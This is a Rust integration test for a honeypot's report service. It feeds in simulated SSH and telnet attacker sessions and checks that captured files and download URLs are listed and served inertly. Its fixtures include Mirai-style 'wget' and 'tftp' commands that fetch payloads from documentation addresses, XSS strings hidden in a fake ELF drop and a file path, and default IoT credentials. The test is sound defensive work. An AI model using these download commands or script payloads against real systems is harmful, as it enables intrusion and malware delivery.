//! Files written and download URLs as a user of the report service sees them (issue 18): a
//! store written by the sensor's own recorder (its writer thread, a real SQLite file in WAL
//! mode) with an SSH session and a telnet session whose events have the shapes of
//! docs/events.md; `recce7 reportd` over it, asked with real curl over 127.0.0.1: the lists,
//! their filters and paging, a file's bytes as an inert attachment, SSH sessions beside telnet
//! ones, and a store from before these tables that answers empty lists.

mod sensor_common;

use std::path::Path;
use std::time::Duration;

use sensor_common::*;
use serde_json::{Value, json};
use store::{Column, ColumnType, Event, EventType, InstanceTable, Recorder, TableSpec};
use testkit::role::RoleProcess;
use testkit::sensor::ports;

const TIMEOUT: Duration = Duration::from_secs(30);

/// The SSH attacker and the telnet one (documentation addresses: nothing is sent to them).
const SSH_PEER: &str = "203.0.113.50";
const TELNET_PEER: &str = "198.51.100.7";
/// A Mirai-style drop: an ELF header, then markup a browser must never see as a page.
const DROPPED: &[u8] = b"\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00<html><script>alert(1)</script></html>";
/// `sha256sum` of [`DROPPED`].
const DROPPED_SHA256: &str = "77f2250b5965e2cccff45b4e67244a72e1811b7dd6b6607a6dd8c9579e21586b";
const HOSTILE_PATH: &str = "/tmp/<svg onload=alert(2)>";
const HOSTILE_URL: &str = "http://203.0.113.9/bins/x.sh?<b>";

/// Standard base64, as the sensor encodes `data` (a test needs no crate for 60 bytes).
fn b64(bytes: &[u8]) -> String {
    const ABC: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ABC[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn event(
    session: &str,
    peer: &str,
    plugin: &str,
    port: u16,
    kind: EventType,
    data: Value,
) -> Event {
    Event {
        schema: store::SCHEMA_VERSION,
        id: store::new_id(),
        sensor: "pi-lab".into(),
        session: session.into(),
        time: store::now_rfc3339(),
        kind,
        plugin: plugin.into(),
        protocol: plugin.into(),
        src_ip: peer.parse().unwrap(),
        src_port: 41000,
        dst_ip: "127.0.0.1".parse().unwrap(),
        dst_port: port,
        data: data.as_object().unwrap().clone(),
    }
}

fn table(name: &str, columns: &[&str]) -> InstanceTable {
    InstanceTable {
        plugin: name.into(),
        table: TableSpec {
            name: name.into(),
            columns: columns
                .iter()
                .map(|c| Column::new(*c, ColumnType::Text))
                .collect(),
        },
    }
}

/// A sensor's store with one SSH and one telnet session, written through the recorder.
fn recorded(path: &Path) -> (String, String) {
    let instances = [
        table(
            "ssh",
            &[
                "version",
                "hassh",
                "hassh_algorithms",
                "method",
                "username",
                "password",
                "key_type",
                "key_fingerprint",
                "outcome",
                "input_type",
                "user_input",
                "unterminated",
                "kind",
                "host",
                "port",
                "originator",
                "refused",
            ],
        ),
        table(
            "telnet",
            &[
                "input_type",
                "username",
                "password",
                "outcome",
                "user_input",
                "unterminated",
            ],
        ),
    ];
    let (conn, _) = store::open(path, &instances).unwrap();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let ssh = store::new_id();
    let telnet = store::new_id();
    runtime.block_on(async {
        let recorder = Recorder::start(conn, &instances, 64, 16).unwrap();
        let h = recorder.handle();
        let s = |kind, data| event(&ssh, SSH_PEER, "ssh", 8022, kind, data);
        let t = |kind, data| event(&telnet, TELNET_PEER, "telnet", 2323, kind, data);
        for e in [
            s(EventType::SessionStart, json!({"table": "ssh"})),
            s(EventType::SshClient, json!({"version": "SSH-2.0-Go", "hassh": "b5752e36ba6c5979a575e43178908adf",
                "hassh_algorithms": "curve25519-sha256@libssh.org;aes128-gcm@openssh.com;hmac-sha2-256;none"})),
            s(EventType::SshLogin, json!({"method": "publickey", "username": "root", "password": null,
                "key_type": "ssh-ed25519", "key_fingerprint": "SHA256:9wGyGLmu0PjJdSDRgyfq6tZHQ7nnLxF7y2MqCDLgVWk", "outcome": "refused"})),
            s(EventType::SshLogin, json!({"method": "password", "username": "root", "password": "root",
                "key_type": null, "key_fingerprint": null, "outcome": "refused"})),
            s(EventType::SshLogin, json!({"method": "keyboard-interactive", "username": "root", "password": "admin",
                "key_type": null, "key_fingerprint": null, "outcome": "accepted"})),
            s(EventType::SshForward, json!({"kind": "direct-tcpip", "host": "198.51.100.80", "port": 80,
                "originator": "127.0.0.1:5555", "refused": true})),
            s(EventType::SshCommand, json!({"input_type": "exec", "user_input": "scp -t /tmp"})),
            s(EventType::FileWritten, json!({"path": HOSTILE_PATH, "size": DROPPED.len(), "sha256": DROPPED_SHA256,
                "data": b64(DROPPED), "truncated": false, "via": "scp"})),
            s(EventType::SessionEnd, json!({"bytes_in": 900, "bytes_out": 300, "reason": "peer closed"})),
            t(EventType::SessionStart, json!({"table": "telnet"})),
            t(EventType::TelnetLogin, json!({"input_type": "login", "username": "root", "password": "xc3511", "outcome": "accepted"})),
            t(EventType::TelnetCommand, json!({"input_type": "command", "user_input": "wget http://203.0.113.9/bins/x.sh?<b>"})),
            t(EventType::DownloadAttempt, json!({"url": HOSTILE_URL, "command": "wget"})),
            t(EventType::DownloadAttempt, json!({"url": "tftp://203.0.113.9/m.arm7", "command": "tftp"})),
            t(EventType::FileWritten, json!({"path": "/var/tmp/m", "size": 70000, "sha256": "c".repeat(64),
                "data": b64(&[0x7f, b'E', b'L', b'F']), "truncated": true, "via": "redirect"})),
            t(EventType::SessionEnd, json!({"bytes_in": 100, "bytes_out": 200, "reason": "logout"})),
        ] {
            h.record(e).await.unwrap();
        }
        h.flush().await.unwrap();
        let stats = recorder.finish().await;
        assert_eq!((stats.failed, stats.unknown_columns), (0, 0), "{stats:?}");
    });
    (ssh, telnet)
}

fn start_reportd(dir: &Path, database: &Path) -> (RoleProcess, u16) {
    let [port] = ports();
    let config = format!(
        "[reportd]\nlisten = \"127.0.0.1:{port}\"\ndatabase = \"{}\"\n",
        database.display()
    );
    (RoleProcess::start(&bin(), "reportd", dir, &config), port)
}

fn ok_json(port: u16, path: &str) -> Value {
    let a = curl(port, path, &[]);
    assert_eq!(
        a.status,
        200,
        "{path}: {}",
        String::from_utf8_lossy(&a.body)
    );
    a.json()
}

#[test]
fn files_and_download_urls_of_ssh_and_telnet_sessions_over_a_running_reportd() {
    let dir = tempfile::tempdir().unwrap();
    let database = dir.path().join("sensor.sqlite");
    let (ssh, telnet) = recorded(&database);
    let (reportd, port) = start_reportd(dir.path(), &database);

    // The files, newest first, never with their bytes.
    let files = ok_json(port, "/v1/files");
    let items = files["items"].as_array().unwrap();
    assert_eq!(items.len(), 2, "{files}");
    assert_eq!(items[0]["session"], telnet.as_str());
    assert_eq!(
        (items[0]["size"].as_i64(), items[0]["storedBytes"].as_i64()),
        (Some(70000), Some(4))
    );
    assert_eq!(items[0]["truncated"], true);
    assert_eq!(items[1]["path"], HOSTILE_PATH);
    assert_eq!(items[1]["sha256"], DROPPED_SHA256);
    assert_eq!(items[1]["via"], "scp");
    assert_eq!(items[1]["localPort"], 8022);
    assert!(!String::from_utf8_lossy(&curl(port, "/v1/files", &[]).body).contains("<html>"));
    let by_hash = ok_json(
        port,
        &format!("/v1/files?sha256={}", DROPPED_SHA256.to_uppercase()),
    );
    assert_eq!(by_hash["items"].as_array().unwrap().len(), 1);
    let by_ip = ok_json(port, &format!("/v1/files?ip={TELNET_PEER}"));
    assert_eq!(by_ip["items"][0]["path"], "/var/tmp/m");
    let page = ok_json(port, "/v1/files?limit=1");
    let next = page["next_cursor"].as_str().expect("a next page");
    let rest = ok_json(
        port,
        &format!(
            "/v1/files?limit=1&cursor={}",
            next.replace('~', "%7E").replace(':', "%3A")
        ),
    );
    assert_eq!(rest["items"][0]["sha256"], DROPPED_SHA256);

    // The bytes: exactly what was written, as an attachment no browser renders.
    let bytes = curl(port, &format!("/v1/files/{DROPPED_SHA256}"), &[]);
    assert_eq!(bytes.status, 200);
    assert_eq!(bytes.body, DROPPED);
    assert_eq!(
        bytes.header("content-type").as_deref(),
        Some("application/octet-stream")
    );
    assert_eq!(
        bytes.header("x-content-type-options").as_deref(),
        Some("nosniff")
    );
    assert!(
        bytes
            .header("content-disposition")
            .is_some_and(|d| d.starts_with("attachment;")),
        "{}",
        bytes.headers
    );
    assert_eq!(
        curl(port, &format!("/v1/files/{}", "d".repeat(64)), &[]).status,
        404
    );
    assert_eq!(curl(port, "/v1/files/not-a-hash", &[]).status, 400);

    // The URLs, by substring and by address.
    let downloads = ok_json(port, "/v1/downloads");
    let urls: Vec<&str> = downloads["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["url"].as_str().unwrap())
        .collect();
    assert_eq!(urls, ["tftp://203.0.113.9/m.arm7", HOSTILE_URL]);
    let only = ok_json(port, "/v1/downloads?url=x.sh%3F%3Cb%3E");
    assert_eq!(only["items"].as_array().unwrap().len(), 1);
    assert_eq!(only["items"][0]["command"], "wget");
    assert_eq!(
        ok_json(port, &format!("/v1/downloads?ip={SSH_PEER}"))["items"],
        json!([])
    );

    // SSH beside telnet: the session with its rows, files and URLs; credentials and commands.
    let detail = ok_json(port, &format!("/v1/sessions/{ssh}"));
    assert_eq!(detail["protocol"], "ssh");
    assert_eq!(detail["files"][0]["sha256"], DROPPED_SHA256);
    assert_eq!(detail["downloads"], json!([]));
    let rows = detail["session_items"].as_array().unwrap();
    let forward = rows
        .iter()
        .find(|r| r["eventType"] == "ssh.forward")
        .expect("the refused forward");
    assert_eq!(forward["host"], "198.51.100.80");
    let key = rows
        .iter()
        .find(|r| r["method"] == "publickey")
        .expect("the public key");
    assert!(
        key["key_fingerprint"]
            .as_str()
            .unwrap()
            .starts_with("SHA256:")
    );
    let telnet_detail = ok_json(port, &format!("/v1/sessions/{telnet}"));
    assert_eq!(telnet_detail["downloads"].as_array().unwrap().len(), 2);
    let address = ok_json(port, &format!("/v1/ipaddresses/{SSH_PEER}"));
    assert_eq!(address["files"][0]["path"], HOSTILE_PATH);
    let creds = ok_json(port, "/v1/analytics/credentials");
    let users: Vec<(&str, Option<&str>)> = creds["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["username"].as_str().unwrap(), c["password"].as_str()))
        .collect();
    for pair in [
        ("root", Some("root")),
        ("root", Some("admin")),
        ("root", Some("xc3511")),
        ("root", None),
    ] {
        assert!(users.contains(&pair), "{pair:?} in {users:?}");
    }
    let commands = ok_json(port, "/v1/analytics/commands");
    assert!(
        commands["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["command"] == "scp -t /tmp"),
        "{commands}"
    );
    let summary = ok_json(port, "/v1/analytics/summary");
    let summary = &summary["summary"];
    assert_eq!(
        (summary["files"].as_i64(), summary["downloads"].as_i64()),
        (Some(2), Some(2))
    );
    assert_eq!(
        summary["ssh_logins"],
        json!([{"key": "refused", "count": 2}, {"key": "accepted", "count": 1}])
    );
    let (status, log) = reportd.terminate(TIMEOUT);
    assert!(status.success(), "{log}");
}

#[test]
fn a_store_from_before_the_files_tables_answers_empty_lists() {
    let dir = tempfile::tempdir().unwrap();
    let database = dir.path().join("sensor.sqlite");
    let (ssh, _) = recorded(&database);
    // What a store of version 4 looks like to the reader.
    let conn = rusqlite::Connection::open(&database).unwrap();
    conn.execute_batch("DROP TABLE files; DROP TABLE downloads; UPDATE storeMeta SET value = '4' WHERE key = 'version';")
        .unwrap();
    drop(conn);
    let (reportd, port) = start_reportd(dir.path(), &database);
    for path in [
        "/v1/files",
        "/v1/downloads?url=x",
        &format!("/v1/files?sha256={DROPPED_SHA256}"),
    ] {
        assert_eq!(ok_json(port, path)["items"], json!([]), "{path}");
    }
    assert_eq!(
        curl(port, &format!("/v1/files/{DROPPED_SHA256}"), &[]).status,
        404
    );
    let detail = ok_json(port, &format!("/v1/sessions/{ssh}"));
    assert_eq!(
        (detail["files"].clone(), detail["downloads"].clone()),
        (json!([]), json!([]))
    );
    let summary = ok_json(port, "/v1/analytics/summary");
    assert_eq!(summary["summary"]["files"], 0);
    let (status, log) = reportd.terminate(TIMEOUT);
    assert!(status.success(), "{log}");

    // The sensor's store opened again gains them (store version 5), rows of other tables kept.
    let (conn, _) = store::open(&database, &[]).unwrap();
    let files: i64 = conn
        .query_row("SELECT count(*) FROM files", [], |r| r.get(0))
        .unwrap();
    let sessions: i64 = conn
        .query_row("SELECT count(*) FROM sessions", [], |r| r.get(0))
        .unwrap();
    let version: String = conn
        .query_row(
            "SELECT value FROM storeMeta WHERE key = 'version'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!((files, sessions, version.as_str()), (0, 2, "5"));
}
